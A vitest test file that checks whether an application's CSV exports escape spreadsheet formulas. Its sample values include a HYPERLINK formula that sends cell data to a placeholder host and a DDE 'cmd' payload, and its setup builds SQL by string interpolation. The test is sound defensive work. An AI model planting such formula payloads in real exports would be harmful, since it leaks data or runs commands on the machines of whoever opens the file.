import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { REPORTS } from '#contract/transactions/reports.ts'
import { createTestApp, type TestApp } from '../test/harness.ts'
import { q, seedWindow, tableOf, WINDOW } from '../test/kits/reports.ts'

let t: TestApp
let admin: string
beforeAll(async () => {
  t = await createTestApp()
  await seedWindow(t.database.db, 300)
  admin = await t.login('superadmin')
})
afterAll(() => t.close())

const HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
const CMD = "+1+cmd|' /C calc'!A1"

const csvOf = async (url: string, body: object) => {
  const res = await t.post(url, { format: 'csv', ...body }, admin)
  expect(res.statusCode).toBe(200)
  return parse(res.rawPayload, { bom: true }) as string[][]
}

describe('CSV exports never carry a live spreadsheet formula', () => {
  it('a resource export (the engine writes the cells) prefixes formula text with a quote', async () => {
    const added = await t.post(
      '/client/add',
      {
        code: 'FORMULA',
        name: HYPERLINK,
        npwp: '0123456789012345',
        picName: CMD,
        picPhone: '081234567890',
        picEmail: 'rumus@contoh.id',
        address: '@SUM(1+1)',
        status: 'ACTIVE',
      },
      admin,
    )
    expect(added.statusCode).toBe(200)
    const records = await csvOf('/client/export', {
      search: 'FORMULA',
      columns: ['code', 'name', 'npwp', 'picName', 'picPhone'],
    })
    expect(records.slice(1)).toEqual([
      ['FORMULA', `'${HYPERLINK}`, '0123456789012345', `'${CMD}`, '+6281234567890'],
    ])
  })

  it('a report export (PostgreSQL writes the cells) does the same, and numbers stay numbers', async () => {
    const def = REPORTS[0]
    if (!def) throw new Error('no report')
    const [first] = await q(
      t.database.db,
      `select t.id, t.merchant_id from ${tableOf(def)} t order by t.created_at desc, t.id desc limit 1`,
    )
    await q(
      t.database.db,
      `update merchant set name = '${HYPERLINK.replaceAll("'", "''")}' where id = ${first?.merchant_id}`,
    )
    await q(t.database.db, `update ${tableOf(def)} set amount = -1500 where id = ${first?.id}`)
    const records = await csvOf(`/${def.apiPath}/export`, {
      ...WINDOW,
      columns: ['merchantName', 'amount'],
      filters: { merchantId: Number(first?.merchant_id) },
    })
    expect(records[0]).toEqual(['Merchant', def.columns.find((c) => c.key === 'amount')?.label])
    expect(records[1]).toEqual([`'${HYPERLINK}`, '-1500'])
    expect(records.slice(1).every((r) => r[0] === `'${HYPERLINK}`)).toBe(true)
    expect(records.slice(2).every((r) => /^\d+$/.test(r[1] ?? ''))).toBe(true)
  })
})
